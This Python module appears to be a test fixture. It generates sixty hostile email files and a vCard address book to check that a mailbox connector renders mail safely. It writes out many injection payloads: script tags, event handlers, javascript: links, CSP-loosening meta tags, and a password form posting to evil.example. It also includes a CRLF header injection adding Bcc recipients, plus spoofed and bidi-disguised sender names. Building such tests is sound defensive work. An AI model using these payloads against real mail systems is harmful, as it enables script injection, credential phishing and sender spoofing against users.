"""Sixty mails that would like to be more than text: scripts, remote loads, forged names, broken markup and broken mails.

What runs would set `window.hostile` or open a dialog, what loads would ask a host under `evil.example`.
"""

import base64
import re
from pathlib import Path

RUN = "window.hostile=1;alert(1)"
EVIL = "http://evil.example"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": f'<script src="{EVIL}/a.js"></script>',
    "script in capitals": f"<ScRiPt >{RUN}</sCrIpT >",
    "script without an end": f"<script>{RUN}",
    "script after a false end": f"</title></textarea></style></script><script>{RUN}</script>",
    "script nested in itself": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "module script": f'<script type="module">import "{EVIL}/m.js";{RUN}</script>',
    "image that fails": f'<img src=x onerror="{RUN}">',
    "image from elsewhere": f'<img src="{EVIL}/pixel.gif" width=1 height=1>',
    "image set": f'<img srcset="{EVIL}/1x.png 1x, {EVIL}/2x.png 2x">',
    "image without quotes": f"<img/src=`x`onerror={RUN}>",
    "svg with onload": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates": f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg with foreign content": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></iframe></foreignObject></svg>",
    "svg that uses another": f'<svg><use href="{EVIL}/x.svg#a"></use></svg>',
    "mathml link": f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x</maction></math>',
    "style": f"<style>body{{background:url({EVIL}/bg.png)}} *{{display:none}}</style>",
    "style that imports": f'<style>@import "{EVIL}/a.css";</style>',
    "style in an attribute": f'<p style="position:fixed;inset:0;background:url({EVIL}/all.png)">x</p>',
    "style sheet from elsewhere": f'<link rel="stylesheet" href="{EVIL}/a.css">',
    "prefetch": f'<link rel="prefetch" href="{EVIL}/p"><link rel="dns-prefetch" href="//evil.example">',
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "meta that loosens the policy": "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src * 'unsafe-inline'\">",
    "base": f'<base href="{EVIL}/"><a href="customers">x</a>',
    "frame": f'<iframe src="{EVIL}/frame"></iframe>',
    "frame with its own text": f'<iframe srcdoc="<script>parent.hostile=1;{RUN}</script>"></iframe>',
    "object": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    "video": f'<video poster="{EVIL}/v.png" onerror="{RUN}"><source src="{EVIL}/v.mp4"></video>',
    "audio": f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    "javascript link": f'<a href="javascript:{RUN}">Rechnung ansehen</a>',
    "javascript link in disguise": f'<a href=" ja&#x09;vascript&colon;{RUN}">Rechnung</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>">Rechnung</a>',
    "form": f'<form action="{EVIL}/steal"><input name=password type=password autofocus onfocus="{RUN}"></form>',
    "form over the whole page": f'<form action="{EVIL}"><button formaction="javascript:{RUN}">Anmelden',
    "details that opens": f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    "handler on the body": f'<body onload="{RUN}" onpageshow="{RUN}">x</body>',
    "htmx attributes": '<div hx-get="/settings" hx-trigger="load" hx-target="body">x</div>',
    "htmx handler": f'<div hx-on:htmx:load="{RUN}" data-hx-on:click="{RUN}">x</div>',
    "keys of ours": '<button aria-keyshortcuts="1" data-print autofocus>1</button>',
    "names of ours": '<main id="content"><form id="answer"></form><input name="_csrf_token" value="stolen"></main>',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "comment with a false end": f"<!--><script>{RUN}</script--><!-- --!><img src=x onerror={RUN}>",
    "template": f"<template><script>{RUN}</script></template>{{{{ 7*7 }}}}{{% raw %}}${{7*7}}#{{7*7}}",
    "broken tags": "<b><i><table><tr><td></b></i><div <p <<a href=</div></ >" * 40,
    "deep tags": "<div>" * 3000 + "tief" + "</div>" * 100,
}  # fmt: skip
"""What the mail's HTML part holds; in most it stands in the plain part, as text."""

HEADERS = {
    "script in the subject": ("Subject", f"<script>{RUN}</script>"),
    "image in the subject": ("Subject", f'"><img src=x onerror="{RUN}">'),
    "markup in the name": ("From", f'"<svg onload={RUN}>" <markup@evil.example>'),
    "quotes in the name": ("From", f'"\' onmouseover={RUN} x=\'\\"" <quotes@evil.example>'),
    "another address in the name": ("From", '"info@firma.example" <forged@evil.example>'),
    "turned letters": ("From", "=?utf-8?b?" + base64.b64encode("\u202egnp.hcilmrah\u202c \u2066Anna".encode()).decode() + "?= <turned@evil.example>"),
    "invisible letters": ("Subject", "=?utf-8?b?" + base64.b64encode("Z\u200be\u200dr\ufeffo\u00ad\u034f".encode() + b"\xf3\xa0\x81\x81").decode() + "?="),
    "markup in the address": ("From", "Anna <a/onerror=alert`1`{{7*7}}@evil.example>"),
    "markup in the key": ("Message-ID", f"<<script>{RUN}</script>@evil.example>"),
    "a line folded into headers": ("Subject", "=?utf-8?q?x=0d=0aBcc:_all@evil.example=0d=0a=0d=0a<script>?="),
}  # fmt: skip
"""A header in place of the ordinary one."""

RAW = {
    "zeroes": b"Guten Tag\x00<script\x00>alert(1)</script>\x00\x01\x02\x1b[31mrot\x07",
    "no encoding": "<script>alert(1)</script>ÄÖÜ\x80".encode("latin-1") + bytes(range(128, 256)),
    "huge line": b"x" * 300_000 + b"<img src=x onerror=alert(1)>",
    "many marks": "Z͑ͫa̴͚l̸͓g̵o".encode() * 4000,
}
"""The bytes of a plain part."""


def mails() -> dict[str, bytes]:
    """Each mail by what it tries."""
    found = {
        what: _mail(n, _both(html) if n % 3 else _html(html))
        for n, (what, html) in enumerate(HTML.items())
    }
    for n, (what, header) in enumerate(HEADERS.items(), len(found)):
        found[what] = _mail(n, _plain(b"Guten Tag"), dict([header]))
    for n, (what, raw) in enumerate(RAW.items(), len(found)):
        found[what] = _mail(n, _plain(raw))
    return found


def write(folder: Path) -> Path:
    """All of them as files, for the mailbox connector."""
    folder.mkdir()
    for n, mail in enumerate(mails().values()):
        (folder / f"{n:02}.eml").write_bytes(mail)
    return folder


def _mail(n: int, rest: bytes, headers: dict[str, str] | None = None) -> bytes:
    said = {
        "From": f"Böser Absender {n} <sender{n}@evil.example>",
        "To": "info@firma.example",
        "Date": f"Fri, 20 Nov 2026 {8 + n // 30:02}:{n % 30 * 2:02}:00 +0100",
        "Message-ID": f"<hostile{n}@evil.example>",
        "Subject": f"Rechnung {n}",
    } | (headers or {})
    head = "".join(f"{name}: {value}\r\n" for name, value in said.items())
    return head.encode() + b"MIME-Version: 1.0\r\n" + rest


def _plain(body: bytes) -> bytes:
    return b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + body


def _html(body: str) -> bytes:
    return f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Guten Tag {body}".encode()


def _both(html: str) -> bytes:
    """As text and as HTML, with a file whose name is the same."""
    name = html[:60].replace("\\", "").replace('"', "'")
    parts = [
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b",
        "Content-Type: multipart/alternative; boundary=a\r\n\r\n--a",
        f"Content-Type: text/plain; charset=utf-8\r\n\r\nGuten Tag {html}\r\n--a",
        f"Content-Type: text/html; charset=utf-8\r\n\r\n<p>Guten Tag {html}\r\n--a--\r\n--b",
        f'Content-Type: image/svg+xml; name="{name}"\r\nContent-Disposition: attachment\r\n\r\n{html}\r\n--b--',
    ]
    return "\r\n".join(parts).encode() + b"\r\n"


def cards(path: Path) -> Path:
    """An address book in which every second sender of an HTML mail is called by what he tried."""
    with path.open("w", encoding="utf-8", newline="") as file:
        for n, html in enumerate(HTML.values()):
            if n % 2:
                continue
            name = re.sub(r"([\\,;])", r"\\\1", html[:200])
            file.write(
                f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:{name}\r\nN:{name};;;;\r\nNOTE:{name}\r\n"
            )
            file.write(f"EMAIL:sender{n}@evil.example\r\nEND:VCARD\r\n")
    return path
